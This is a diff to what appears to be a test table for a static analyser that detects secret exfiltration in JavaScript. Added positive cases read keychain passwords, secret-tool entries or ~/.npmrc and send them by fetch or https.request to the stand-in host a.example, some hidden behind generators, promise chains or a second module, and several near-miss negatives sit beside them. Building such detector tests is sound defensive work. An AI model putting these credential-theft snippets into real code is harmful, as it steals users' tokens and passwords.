@@ -18,6 +18,25 @@ const SOURCES: readonly Row[] = [
     "const T={darwin:{bin:'security',args:s=>['find-generic-password','-s',s,'-w']},linux:{bin:'secret-tool',args:s=>['lookup','service',s]}};const t=T[process.platform];SEND«require('child_process').spawnSync(t.bin,t.args('gh')).stdout»",
   ],
   [
+    'a request that was listened to first',
+    "READ;require('https').request('https://a.example',{method:'POST'}).on('error',()=>{}).end(k)",
+  ],
+  [
+    'one thing after the other of a generator',
+    'READ;function* parts(){yield* [k.slice(9)];yield k.slice(0,9)}const it=parts();const {value}=it.next();SEND«value»',
+  ],
+  [
+    'a function made where it is handed to',
+    "READ;const to=(url)=>(d)=>fetch(url,{body:d});Promise.resolve(k).then(to('x'))",
+  ],
+  [
+    'a function of another module, handed to a promise',
+    {
+      'index.js': "const {up}=require('./up');require('fs/promises').readFile(process.env.HOME+'/.npmrc').then(up)",
+      'up.js': "exports.up=(d)=>fetch('https://a.example',{body:d})",
+    },
+  ],
+  [
     'what a Proxy finds out',
     "const s=new Proxy({},{get:(_,n)=>require('child_process').execSync('secret-tool lookup service '+n)});SEND«names.map(n=>s[n]).join()»",
   ],
@@ -569,6 +588,17 @@ const STAYS: readonly Row[] = [
   [
     'another command of a table',
     "const T={darwin:{bin:'security',args:['list-keychains']},linux:{bin:'ls',args:['-l']}};const t=T[process.platform];SEND«require('child_process').spawnSync(t.bin,t.args).stdout»",
+  ],
+  [
+    'a function of another module that sends something else',
+    {
+      'index.js': "const {up}=require('./up');require('fs/promises').readFile(process.env.HOME+'/.npmrc').then(up)",
+      'up.js': "exports.up=(d,city='here')=>fetch('https://a.example',{body:city})",
+    },
+  ],
+  [
+    'a request that another thing was listened to before',
+    "READ;const r=require('fs').createReadStream('./x').on('data',()=>{});require('https').request('https://a.example').on('error',()=>{}).end('x')",
   ],
   [
     'one variable through a Proxy',
